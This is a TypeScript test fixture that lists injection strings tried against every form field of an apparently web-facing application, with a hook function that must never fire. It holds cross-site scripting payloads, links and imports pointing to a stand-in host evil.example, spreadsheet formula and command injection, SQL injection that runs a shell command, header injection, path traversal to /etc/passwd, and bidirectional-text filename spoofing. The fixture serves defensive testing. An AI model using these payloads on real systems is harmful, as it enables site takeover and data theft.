/** Texts that somebody might paste, or type on purpose. `__ran` is a function the test listens to: it must never run. */
const MARKUP: readonly string[] = [
  "<script>__ran(1)</script>",
  '"><script>__ran(2)</script>',
  "'><img src=x onerror=__ran(3)>",
  "<img src=x onerror=__ran(4)>",
  "<svg onload=__ran(5)>",
  "<svg><script>__ran(6)</script></svg>",
  "<svg><animate onbegin=__ran(7) attributeName=x dur=1s>",
  "</textarea><script>__ran(8)</script>",
  "</title><script>__ran(9)</script>",
  "</style><script>__ran(10)</script>",
  "--><script>__ran(11)</script>",
  "]]><script>__ran(12)</script>",
  "<iframe srcdoc='<script>parent.__ran(13)</script>'></iframe>",
  "<iframe src=javascript:parent.__ran(14)></iframe>",
  "<details open ontoggle=__ran(15)>",
  "<input autofocus onfocus=__ran(16)>",
  "<body onload=__ran(17)>",
  "<math><mtext><table><mglyph><style><img src=x onerror=__ran(18)>",
  "<link rel=stylesheet href=https://evil.example/19.css>",
  "<style>@import url(https://evil.example/20.css)</style>",
  '<base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example/22">',
  "<object data=https://evil.example/23></object>",
  '<form action="https://evil.example/24"><button autofocus>x</button></form>',
  "<a href=javascript:__ran(25)>click</a>",
  "<video><source onerror=__ran(26)></video>",
  "<audio src onerror=__ran(27)>",
  "<xmp><p title='</xmp><img src=x onerror=__ran(28)>'>",
  "<noscript><p title='</noscript><img src=x onerror=__ran(29)>'>",
  '" onmouseover="__ran(30)" autofocus onfocus="__ran(30)" x="',
  "' onmouseover='__ran(31)' autofocus onfocus='__ran(31)' x='",
  "&lt;script&gt;__ran(32)&lt;/script&gt; &#60;img src=x onerror=__ran(32)&#62;",
  "\u003cscript\u003e__ran(33)\u003c/script\u003e",
  "＜script＞__ran(34)＜/script＞",
  "<ScRiPt/x>__ran(35)</sCrIpT >",
  "<<script>__ran(36)//<</script>",
];
const LINKS: readonly string[] = [
  "[click](javascript:__ran(40))",
  "[click](JaVaScRiPt:__ran(41))",
  "[click](java\tscript:__ran(42))",
  "[click](&#106;avascript:__ran(43))",
  "[click](\u0001javascript:__ran(44))",
  "[click](data:text/html,<script>__ran(45)</script>)",
  "[click](vbscript:__ran(46))",
  "<javascript:__ran(47)>",
  '[click](https://fit.example/"onmouseover=__ran(48)//)',
  "[click](//evil.example/49)",
  "[click](javascript://fit.example/%0a__ran(50))",
  "![x](https://evil.example/51.png)",
  "[^1]\n\n[^1]: javascript:__ran(52)",
  "javascript:__ran(53)",
  "data:text/html;base64,PHNjcmlwdD5fX3Jhbig1NCk8L3NjcmlwdD4=",
  "https://evil.example/55?<script>__ran(55)</script>",
];
const PLAIN: readonly string[] = [
  '=HYPERLINK("https://evil.example/60","x")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+1-1",
  "{name} {count, plural, one {#} other {#}} {",
  "'{' '' {0} ${7*7} #{7*7} {{7*7}} <%= 7*7 %>",
  "'; drop table person; --",
  "\\'; select pg_sleep(5); --",
  "$$; copy person to program 'touch /tmp/x'; $$",
  "%00%0d%0aset-cookie: x=1",
  "a\r\nSet-Cookie: x=1\r\n\r\n<script>__ran(69)</script>",
  "../../../../etc/passwd",
  "__proto__",
  "constructor",
  "مرحبًا Hello שלום 123 — «بيان» (abc)",
  "ﷺ \u0640\u0640\u0640 a\u0300\u0301\u0302\u0303 👩‍👩‍👧‍👦 🏴‍☠️ 𝔘𝔫𝔦𝔠𝔬𝔡𝔢",
  "\u200b\u200c\u200d\ufeff\u00ad",
];
/** What may not stand in any text that others read: it reorders, hides, or is not text at all. */
const HIDDEN: readonly string[] = [
  "invoice \u202excod.exe",
  "\u202dleft\u202c",
  "\u2067unclosed",
  "\u2066a\u2069\u2069\u2066",
  "nul \u0000 inside",
  "bell \u0007, escape \u001b[31m, delete \u007f",
  "\u0085 next line, \u2028 line, \u2029 paragraph",
];
/** Of these, what no field may take: it changes what others read around it, or is not text. */
export const REORDERS: readonly string[] = HIDDEN.slice(0, 6);
/** As the bytes of a form, because no text can hold them: halves of surrogate pairs, bytes that are no UTF-8. */
export const RAW: readonly string[] = ["half %ED%A0%80 pair", "%ED%B0%80", "%FF%FE%C0%80", "%F4%90%80%80"];

export const PAYLOADS: readonly string[] = [...MARKUP, ...LINKS, ...PLAIN, ...HIDDEN];
/** Tried in every field, also in the quick form. */
export const ALWAYS: readonly string[] = [HIDDEN[0]!, HIDDEN[4]!, MARKUP[1]!, PLAIN[3]!];
